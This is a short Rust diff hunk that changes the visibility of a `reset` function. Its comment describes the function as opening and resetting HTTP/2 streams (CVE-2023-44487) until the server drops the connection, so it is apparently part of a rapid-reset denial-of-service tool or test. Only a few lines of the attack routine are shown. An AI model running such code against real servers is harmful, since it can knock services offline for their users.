@@ -221,7 +221,7 @@ fn headers(path: &str, stream: u32, flags: u8) -> Vec<u8> {
 }
 
 /// Begins and resets streams (CVE-2023-44487) until the server ends the connection.
-async fn reset(address: String, path: String) -> String {
+pub(crate) async fn reset(address: String, path: String) -> String {
     let (mut reader, mut writer) = connect(&address).await.into_split();
     writer.write_all(&http2(&[])).await.unwrap();
     let reading = tokio::spawn(async move {
